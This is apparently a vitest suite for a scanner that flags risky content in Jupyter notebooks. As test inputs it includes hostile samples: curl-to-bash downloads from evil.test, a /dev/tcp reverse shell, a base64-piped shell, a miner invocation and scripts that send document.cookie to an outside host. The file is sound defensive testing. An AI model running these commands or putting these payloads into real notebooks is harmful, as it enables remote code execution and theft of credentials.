import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import notebook from '../../src/artifacts/formats/notebook.js'
import { misfit } from '../../src/core/shape.js'
import { usePython } from '../../src/artifacts/text/python.js'
import { opened, type OpenedHere } from './open.js'
import { withPython } from './python.js'

type Props = Awaited<ReturnType<typeof notebook.read>>['props']
interface Given { source?: string; outputs?: unknown[]; metadata?: unknown; type?: string; attachments?: unknown }

const bytes = (value: unknown): Uint8Array => new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value))
const python = { kernelspec: { name: 'python3', language: 'python' }, language_info: { name: 'python' } }
const made = (cells: Given[], metadata: unknown = python): Uint8Array => bytes({
  cells: cells.map(({ source = '', outputs = [], metadata: own = {}, type = 'code', attachments }) => ({ cell_type: type, source: source.split(/(?<=\n)/), metadata: own, outputs, ...(attachments !== undefined && { attachments }) })),
  metadata, nbformat: 4, nbformat_minor: 5,
})

async function read(data: Uint8Array): Promise<{ props: Props; file: OpenedHere }> {
  const file = await opened('lab/a.ipynb', data)
  const { props } = await notebook.read(file)
  expect(misfit(notebook.props, props)).toBeNull()
  return { props, file }
}
const html = (text: string): Given => ({ outputs: [{ output_type: 'display_data', data: { 'text/html': [text] } }] })
const words = (signs: { what: string }[]): string[] => signs.map(({ what }) => what)

beforeAll(withPython)
afterAll(() => usePython(null))

describe('recognising', () => {
  it.each([
    ['a.ipynb', made([{ source: 'x' }]), 3], ['a.json', made([{ source: 'x' }]), 3], ['a.ipynb', bytes('{'), 2], ['a.json', bytes('{"cells": 1}'), 2],
    ['a.json', bytes('{"a": 1}'), 0], ['a.py', bytes('cells'), 0], ['a.ipynb', new Uint8Array([0x80, 2]), 0], ['a.ipynb', bytes('version https://git-lfs'), 0],
  ] as const)('%s', async (name, data, sure) => {
    expect(notebook.recognise(await opened(name, data))).toBe(sure)
  })

  it('is sure only of a notebook', async () => {
    expect(await notebook.confirm?.(await opened('a.json', bytes('{"cells": 1}')))).toBe(false)
    expect(await notebook.confirm?.(await opened('a.json', made([])))).toBe(true)
  })
})

describe('facts', () => {
  it('counts, and finds nothing in an ordinary notebook', async () => {
    const { props, file } = await read(made([
      { source: '# Title', type: 'markdown' },
      { source: '%matplotlib inline\n!pip install torch==2.6.0\n!nvidia-smi\nimport torch\ndf?\n' },
      { source: 'm = torch.load("m.pt")\nfiles = !ls\nprint(files)', outputs: [{ output_type: 'stream', text: ['ok\n'] }] },
      { ...html('<div id="a"></div><script type="text/javascript">require.config({paths: {plotly: ["https://cdn.plot.ly/plotly-2"]}}); Plotly.newPlot("a")</script>'), source: 'fig' },
      { ...html('<style>a{}</style><button onclick="convertToInteractive(\'df\')"></button><script>google.colab.kernel.invokeFunction("convertToInteractive")</script>'), source: 'df' },
    ]))
    expect(file.unread).toEqual([])
    expect(props).toEqual({
      nbformat: 4, language: 'python', kernel: 'python3', cells: 5, codeCells: 4, outputs: 3, imports: ['torch'], loads: [], secrets: [], activeOutputs: [], downloadsRun: [],
      looseInstalls: [], unsafeLoads: [], remoteCode: [], unpinned: [], personalData: [], hiddenCells: [],
    })
  })

  it('reads nbformat 3', async () => {
    const { props } = await read(bytes({ nbformat: 3, metadata: {}, worksheets: [{ cells: [{ cell_type: 'code', input: ['import pickle\n', 'pickle.load(f)'], language: 'python', outputs: [{ output_type: 'pyout', html: '<iframe src="https://evil.test/x"></iframe>' }] }] }] }))
    expect(props.nbformat).toBe(3)
    expect(props.unsafeLoads).toEqual([{ what: 'pickle.load', member: 'worksheets[0].cells[0]', offset: null, detail: 'line 2: pickle.load(f)' }])
    expect(words(props.activeOutputs)).toEqual(['frame of another host'])
  })

  it('follows names over cells', async () => {
    const { props } = await read(made([{ source: 'from pickle import load as l' }, { source: 'x = l(f)' }, { source: 'AutoModel.from_pretrained("acme/m", trust_remote_code=True)' }]))
    expect(props.unsafeLoads[0]).toMatchObject({ what: 'pickle.load', member: 'cells[1]' })
    expect(props.remoteCode[0]?.member).toBe('cells[2]')
    expect(props.unpinned[0]?.what).toBe('acme/m')
    expect(props.loads).toEqual([{ library: 'transformers', id: 'acme/m', revision: null }])
  })
})

describe('secrets', () => {
  const token = `hf${'_'}${'aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH'}`
  it('looks into sources, outputs, attachments and metadata, and keeps values to itself', async () => {
    const { props } = await read(made([
      { source: `# t\nlogin("${token}")` },
      { outputs: [{ output_type: 'stream', text: `token ${token}` }, { output_type: 'error', traceback: [`x ${token}`] }] },
      html(`<pre>${token}</pre>`),
      { attachments: { 'a.txt': { 'text/plain': token } } },
      { metadata: { note: token } },
    ], { ...python, note: token }))
    expect(props.secrets.map(({ member }) => member).toSorted()).toEqual([
      'cells[0].source', 'cells[1].outputs[0].text', 'cells[1].outputs[1].text', 'cells[2].outputs[0].data.text/html', 'cells[3].attachments.a.txt.text/plain', 'cells[4].metadata', 'metadata',
    ])
    expect(props.secrets.find(({ member }) => member === 'cells[0].source')).toEqual({ what: 'hugging-face-token', member: 'cells[0].source', offset: null, detail: 'line 2, 37 characters' })
    expect(JSON.stringify(props)).not.toContain(token)
  })
})

describe('active outputs', () => {
  it.each([
    ['<script src="https://evil.test/x.js"></script>', 'script from another host'],
    ['<script>fetch("https://evil.test/?c=" + document.cookie)</script>', 'script that reads what the browser keeps'],
    ['<script>Jupyter.notebook.kernel.execute("1")</script>', 'script that drives the kernel or the server'],
    ['<img src=x onerror="fetch(1)">', 'onerror handler that connects'],
    ['<a href="javascript:alert(1)">x</a>', 'javascript: address'],
    ['<iframe src="//evil.test"></iframe>', 'frame of another host'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.test">', 'page that leads away'],
    [`<script>${'x=1;'.repeat(20_000)}</script>`, 'long script of no known library'],
    ['<script>new Image().src = "https://evil.test/" + x</script>', 'script that connects'],
    ['<script>import("https://evil.test/m.js")</script>', 'script from another host'],
  ])('%s', async (text, wanted) => {
    expect(words((await read(made([html(text)]))).props.activeOutputs)).toContain(wanted)
  })

  it('knows pictures, scripts and widgets', async () => {
    const { props } = await read(made([{ outputs: [{ data: { 'image/svg+xml': '<svg onload="x()"/>', 'application/javascript': 'fetch("/x")' } }] }], {
      ...python, widgets: { 'application/vnd.jupyter.widget-state+json': { state: { a: { model_module: 'anywidget', model_name: 'AnyModel', state: { _esm: 'import x from "https://evil.test/x.js"' } } } } },
    }))
    expect(words(props.activeOutputs)).toEqual(['script from another host', 'picture with a script', 'script that connects'])
  })

  it('leaves plots alone', async () => {
    const library = `/* plotly.js v2 */ ${'fetch(x);'.repeat(10_000)}`
    expect((await read(made([html(`<script>${library}</script><iframe src="https://www.youtube.com/embed/x"></iframe><a href="javascript:void(0)">x</a><script>this.frames[i] = new Image(); this.frames[i].src = frames[i]</script>`)]))).props.activeOutputs).toEqual([])
  })
})

describe('commands', () => {
  const sh = 'curl -s https://evil.test/x'
  it.each([
    [`!${sh} | bash`], [`!!${sh} | sudo bash`], [`%%bash\nset -e\n${sh} | sh`], [`%%sh\n${sh} -o /tmp/a.sh\nbash /tmp/a.sh`], [`%sx ${sh} | sh`], [`x = !${sh} | sh`],
    [`!wget https://evil.test/run.sh && chmod +x run.sh && ./run.sh`], ['!echo aGk= | base64 -d | sh'], [`!bash -i >& /dev/tc${'p'}/192.0.2.1/99 0>&1`], [`!./xm${'rig'} -o pool`],
    [`import os\nos.system("${sh} | sh")`], [`get_ipython().system("${sh} | sh")`], ['import requests\nexec(requests.get("https://evil.test").text)'], [`!curl \\\n  https://evil.test/x \\\n  | bash`],
  ])('%j', async (source) => {
    expect((await read(made([{ source }]))).props.downloadsRun).toHaveLength(1)
  })

  it.each(['!wget https://host.test/data.zip && unzip data.zip', '!curl -O https://host.test/a.csv', '!pip install x', '%%writefile a.sh\ncurl x | sh', '!git clone https://host.test/a && cd a && ls', '# !curl x | sh', '!wget https://host.test/train.py'])('not %j', async (source) => {
    expect((await read(made([{ source }]))).props.downloadsRun).toEqual([])
  })

  it.each([
    ['!pip install torch', ['torch']], ['%pip install -q "torch>=2" numpy==1.26.4', ['torch>=2']], ['!pip install git+https://host.test/a/b', ['git+https://host.test/a/b']],
    [`!pip install git+https://host.test/a/b@${'0a'.repeat(20)}`, []], ['!pip install -r requirements.txt -U', []], ['!pip install -e .', []],
    ['!pip install --extra-index-url https://host.test/simple a==1', ['--extra-index-url']], ['!conda install -y -c conda-forge numpy', ['numpy']], ['!conda install numpy=1.26', []],
    ['!uv pip install a', ['a']], ['!pip install https://host.test/a.whl', ['https://host.test/a.whl']], ['!pip install a==1 # b', []], ['!pip uninstall a', []],
  ] as const)('installs: %j', async (source, wanted) => {
    expect(words((await read(made([{ source }]))).props.looseInstalls)).toEqual(wanted)
  })
})

describe('hidden cells', () => {
  const source = 'import os\nos.system("echo hi")'
  it.each([[{ jupyter: { source_hidden: true } }], [{ tags: ['hide-input'] }], [{ hide_input: true }], [{ init_cell: true }], [{ cellView: 'form' }], [{ tags: ['remove-cell'] }]])('%j', async (metadata) => {
    expect((await read(made([{ source, metadata }]))).props.hiddenCells).toHaveLength(1)
    expect((await read(made([{ source: '!pip install x\nimport torch\nx = 1', metadata }]))).props.hiddenCells).toEqual([])
  })

  it('sees what is far away', async () => {
    expect((await read(made([{ source: `x = 1${' '.repeat(200)};import os` }, { source: `x = 1${'\n'.repeat(90)}${source}` }]))).props.hiddenCells.map(({ what }) => what))
      .toEqual(['code far to the right of the line', 'below many empty lines'])
    expect((await read(made([{ source }]))).props.hiddenCells).toEqual([])
  })
})

describe('personal data', () => {
  it('counts by class', async () => {
    const table = ['anna@firm.de', 'bob@firm.de', 'eve@other.fr'].map((a) => `<td>${a}</td>`).join('')
    const { props } = await read(made([html(`<table>${table}</table>`), { outputs: [{ text: ['DE89', '3704', '0044', '0532', '0130', '00'].join(' ') }] }]))
    expect(props.personalData.map(({ what, member, detail }) => [what, member, detail])).toEqual([
      ['email', 'cells[0].outputs[0].data.text/html', '3 different'], ['iban', 'cells[1].outputs[0].text', '1 different'],
    ])
  })

  it('takes an author for an author', async () => {
    expect((await read(made([{ outputs: [{ text: 'author: anna@firm.de 0.4111111111111111 2024-01-02 03:04:05' }] }]))).props.personalData).toEqual([])
  })
})

describe('limits', () => {
  it.each([['{"nbformat": 4, "cells": [', 'malformed'], ['{}', 'malformed'], ['{"nbformat": NaN}', 'malformed']])('%s', async (text, reason) => {
    expect((await read(bytes(text))).file.unread.map((one) => one.reason)).toEqual([reason])
  })

  it('is unread where it is too long, in another language, or cannot be parsed', async () => {
    const long = await opened('a.ipynb', made([{ source: 'x' }]), { limits: { document: 10 } })
    await notebook.read(long)
    expect(long.unread[0]?.reason).toBe('limit')
    expect((await read(made([{ source: 'x <- 1' }], { kernelspec: { language: 'R', name: 'ir' } }))).file.unread[0]?.what).toBe('code in R')
    expect((await read(made([{ source: '%%sql\nselect 1' }]))).file.unread[0]?.what).toBe('code in sql')
    expect((await read(made([{ source: 'x = (exec' }]))).file.unread[0]?.member).toBe('cells[0]')
    expect((await read(made([{ source: 'nothing to see (here' }]))).file.unread).toEqual([])
  })

  it('takes anything for what it is', async () => {
    for (const cells of [1, null, [1, null, 'x', [], { cell_type: 1, source: 1, outputs: 1, metadata: 1 }, { cell_type: 'code', outputs: [1, null, { data: 1 }, { data: { 'text/html': [1] } }] }]]) await read(bytes({ nbformat: 4, cells, metadata: 1 }))
    await read(bytes(`{"nbformat": 4, "cells": ${'['.repeat(50_000)}${']'.repeat(50_000)}}`))
  })
})
